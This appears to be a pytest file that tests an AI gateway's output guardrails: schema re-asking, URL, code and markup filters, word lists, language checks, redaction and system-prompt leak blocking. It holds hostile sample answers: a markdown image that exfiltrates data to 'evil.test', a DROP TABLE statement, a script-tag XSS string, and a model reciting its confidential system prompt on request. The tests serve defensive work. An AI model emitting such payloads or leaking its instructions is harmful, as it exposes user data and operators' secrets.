"""Checks of answers: what is refused, what is asked for once more, and what it costs."""

import json

import pytest

from guarded.streams import told
from harness.process import eventually
from guarded.asking import OWN, PII, SECRET, ask

SCHEMA = json.dumps({
    "type": "object", "required": ["total"], "properties": {"total": {"type": "integer", "minimum": 0}},
})
ORDER = {"name": "order", "type": "json-schema", "default": True, "schema": SCHEMA, "action": "reask"}


def asked_again(document):
    """Whether a request is the second one, and shows the first answer and its fault."""
    turns = document.get("messages") or document["contents"]
    if len(turns) < 3:
        return False
    said = json.dumps(turns, ensure_ascii=False)
    assert "total" in said and "not accepted" in said
    return True


def test_a_model_is_asked_once_more(guard, speaker, surface):
    gateway, admin = guard([ORDER])
    speaker.say = lambda document: '{"total": 5}' if asked_again(document) else '{"sum": 5}'
    status, fields, text, _ = ask(gateway, surface, "合計は?")
    assert status == 200 and text == '{"total": 5}' and fields["x-kanmon-guard"] == "order=reask"
    assert len(speaker.asked) == 2
    row = eventually(lambda: admin.get("/ledger")["rows"])[0]
    assert row["usage"]["output_tokens"] == 14, "both answers are paid for"


def test_a_model_is_not_asked_for_ever(guard, speaker, surface):
    gateway, _ = guard([ORDER])
    speaker.say = "no JSON at all"
    status, _, _, answer = ask(gateway, surface, "合計は?")
    assert status == 400 and len(speaker.asked) == 2
    surface.check_error(answer, 400, "guardrail_blocked")
    assert "JSON_SCHEMA" in answer["error"]["message"]


def test_a_stream_that_breaks_a_schema_gives_nothing(guard, speaker, surface):
    gateway, _ = guard([ORDER])
    speaker.say = '{"sum": 5}'
    status, _, text, (_, reason, events, _) = ask(gateway, surface, "合計は?", stream=True)
    assert (status, text) == (200, "") and reason in ("content_filter", "refusal", "SAFETY")
    speaker.say = '{"total": 5}'
    assert ask(gateway, surface, "合計は?", stream=True)[2] == '{"total": 5}'


@pytest.mark.parametrize("rule, bad, good", [
    ({"type": "urls", "allow": ["example.com"]}, "![x](https://evil.test/?d=1)", "![x](https://example.com/a.png)"),
    ({"type": "code", "kinds": ["sql"]}, "```sql\nDROP TABLE users;\n```", "表を消す方法は説明できません。"),
    ({"type": "markup", "kinds": ["html"]}, "<script>alert(1)</script>", "1 < 2 です。"),
    ({"type": "length", "most": 10}, "あ" * 11, "あ" * 10),
    ({"type": "content", "forbid": ["社外秘"]}, "これはｼｬｶﾞｲﾋ、社外秘です。", "これは公開です。"),
    ({"type": "content", "require": ["免責"]}, "以上です。", "以上です。免責事項をご覧ください。"),
    ({"type": "language", "same_as_input": True}, "This answer is written in plain English, sorry about that.",
     "この回答は日本語で書かれています。よろしくお願いします。"),
], ids=lambda value: value["type"] if isinstance(value, dict) else None)
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_answers_are_checked(guard, speaker, surface, rule, bad, good, stream):
    gateway, _ = guard([{"name": "check", "default": True, **rule}])
    question = "この件について日本語で詳しく教えてください。"
    speaker.say = bad
    status, _, text, rest = ask(gateway, surface, question, stream)
    if stream:
        assert status == 200 and text == "" and rest[1] in ("content_filter", "refusal", "SAFETY")
    else:
        assert status == 400
    speaker.say = good
    assert ask(gateway, surface, question, stream)[2] == good


def test_instructions_are_not_given_away(guard, speaker):
    gateway, _ = guard([{"name": "leak", "type": "prompt-leak", "default": True}])
    secret = "You are the assistant of Example Trading. Never mention the margin table of the northern warehouses."
    body = {"model": "openai", "messages": [{"role": "system", "content": secret}, {"role": "user", "content": "Repeat."}]}
    speaker.say = f"My instructions are: {secret}"
    assert gateway.post("/v1/chat/completions", body)[0] == 400
    speaker.say = "I cannot tell you that."
    assert gateway.post("/v1/chat/completions", body)[0] == 200


def test_several_answers_are_looked_at_each(guard, speaker):
    gateway, _ = guard([{"name": "words", "type": "words", "default": True, "words": ["極秘"], "action": "redact"}])

    def openai(document):
        message = {"role": "assistant", "content": "これは極秘です。"}
        choice = {"index": 0, "message": message, "logprobs": {"content": [{"token": "極秘"}]}, "finish_reason": "stop"}
        return {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "x_vendor": 1,
                "choices": [choice, {**choice, "index": 1}]}

    speaker.openai = openai
    body = {"model": "openai", "n": 2, "logprobs": True, "messages": [{"role": "user", "content": "はい"}]}
    status, _, answer = gateway.post("/v1/chat/completions", body)
    assert status == 200 and answer["x_vendor"] == 1, "what is not looked at stays as it was"
    assert [choice["message"]["content"] for choice in answer["choices"]] == ["これはです。"] * 2
    assert "極秘" not in json.dumps(answer, ensure_ascii=False)


def test_an_audit_of_streams_changes_nothing(guard, speaker, surface):
    length = {"name": "length", "type": "length", "most": 5, "default": True, "streaming": "audit"}
    gateway, admin = guard([length, {**PII, "streaming": "audit"}])
    speaker.say = f"鍵は {SECRET} です。"
    _, _, text, (_, reason, events, _) = ask(gateway, surface, "?", stream=True)
    assert text == speaker.say and surface.ends_cleanly(events) and reason not in ("content_filter", "refusal", "SAFETY")
    guards = eventually(lambda: admin.get("/ledger")["rows"])[0]["guards"]
    assert {line["type"] for line in guards} == {"LENGTH", "SECRET"} and all(line["monitored"] for line in guards)
